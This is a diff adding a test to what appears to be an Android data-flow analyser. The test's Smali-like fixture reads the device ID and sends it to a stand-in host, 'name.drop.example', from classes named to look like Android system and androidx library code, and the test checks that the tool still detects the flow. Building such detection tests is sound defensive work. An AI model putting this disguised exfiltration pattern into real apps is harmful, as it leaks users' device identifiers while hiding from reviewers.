@@ -84,3 +84,33 @@ def test_an_own_copy_of_an_android_class_is_never_asked_for(build: Build) -> Non
     """
     facts = analyse_code([("classes.dex", build(main)), ("classes2.dex", build(fake))], CONTEXT)
     assert [s.data.value for s in facts.sources] == ["device-id"]
+
+
+SENDS = """
+.class Landroid/process/media/Main; Landroid/app/Activity;
+.method onCreate(Landroid/os/Bundle;)V 5
+const-string v0, "phone"
+invoke-virtual {v3, v0} Landroid/process/media/Main;->getSystemService(Ljava/lang/String;)Ljava/lang/Object;
+move-result-object v0
+check-cast v0, Landroid/telephony/TelephonyManager;
+invoke-virtual {v0} Landroid/telephony/TelephonyManager;->getDeviceId()Ljava/lang/String;
+move-result-object v1
+invoke-static {v1} Landroidx/core/Loader;->go(Ljava/lang/String;)V
+return-void
+.class Landroidx/core/Loader;
+.method static go(Ljava/lang/String;)V 5
+const-string v0, "tag"
+const-string v1, "http://name.drop.example/?q="
+invoke-virtual {v1, v4} Ljava/lang/String;->concat(Ljava/lang/String;)Ljava/lang/String;
+move-result-object v1
+new-instance v2, Ljava/net/URL;
+invoke-direct {v2, v1} Ljava/net/URL;-><init>(Ljava/lang/String;)V
+invoke-virtual {v2} Ljava/net/URL;->openStream()Ljava/io/InputStream;
+return-void
+"""
+
+
+def test_names_of_android_and_kits_hide_nothing(build: Build) -> None:
+    context = AppContext("android.process.media", (ComponentInfo("android.process.media.Main", "activity"),))
+    [flow] = analyse_code([("classes.dex", build(SENDS))], context).flows
+    assert (flow.data.value, flow.sink.value, flow.endpoint) == ("device-id", "http", "name.drop.example")
